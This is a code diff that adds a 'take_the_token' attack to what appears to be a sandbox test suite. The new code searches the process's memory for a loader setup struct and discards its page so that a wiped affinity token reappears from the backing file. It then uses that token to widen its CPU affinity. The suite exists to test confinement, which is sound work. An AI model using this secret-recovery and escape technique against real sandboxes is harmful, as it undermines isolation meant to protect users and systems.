@@ -3,10 +3,15 @@
 #include "attack.h"
 
 #include <sched.h>
+#include <stdint.h>
+#include <stdio.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/ptrace.h>
 #include <sys/resource.h>
 #include <sys/uio.h>
+
+#include "../../../daemon/abi/loader_abi.h"
 
 #define TARGETS 3
 
@@ -84,6 +89,49 @@ static void change_scheduling(void) {
 	TRY_SYS(ioprio_set, 3, getuid(), 3 << 13);
 }
 
+/* What the kernel has in the place of a page that was thrown away: of a file mapped privately, what
+ * the file has, whatever was written over it. */
+static void throw_away(const struct loader_setup *setup) {
+	cpu_set_t all, own;
+
+	memset(&all, 0xff, sizeof(all));
+	sched_getaffinity(0, sizeof(own), &own);
+	int before = CPU_COUNT(&own);
+	uint64_t wiped = setup->affinity_token;
+	madvise((void *)setup, 4096, MADV_DONTNEED);
+	uint64_t token = setup->affinity_token;
+	if (wiped || token)
+		say("READ the token: %llx, then %llx", wiped, token);
+	TRY_SYS(sched_setaffinity, 0, sizeof(all), &all, token);
+	sched_getaffinity(0, sizeof(own), &own);
+	if (CPU_COUNT(&own) > before)
+		say("WORKED: %d processors instead of %d", CPU_COUNT(&own), before);
+}
+
+/* The loader's set-up, wherever it is, with what each child has wiped in it. */
+static void take_the_token(void) {
+	FILE *maps = fopen("/proc/self/maps", "r");
+	unsigned long start, end;
+	char line[600];
+	int found = 0;
+
+	while (maps && fgets(line, sizeof(line), maps)) {
+		if (sscanf(line, "%lx-%lx rw-p", &start, &end) != 2 || !strstr(line, " rw-p"))
+			continue;
+		for (unsigned long page = start; page < end && page < start + (64 << 20);
+			page += 4096) {
+			const struct loader_setup *setup = (const void *)page;
+
+			if (setup->magic != LOADER_MAGIC_SETUP)
+				continue;
+			found++;
+			throw_away(setup);
+		}
+	}
+	if (!found)
+		say("there is no set-up to be found");
+}
+
 static void shared_memory(void) {
 	char buffer[64] = "";
 
@@ -104,6 +152,7 @@ const struct attack attacks_memory[] = {
 	{"change_scheduling", change_scheduling},
 	{"reach_into_memory", reach_into_memory},
 	{"shared_memory", shared_memory},
+	{"take_the_token", take_the_token},
 	{"trace_others", trace_others},
 	{0},
 };
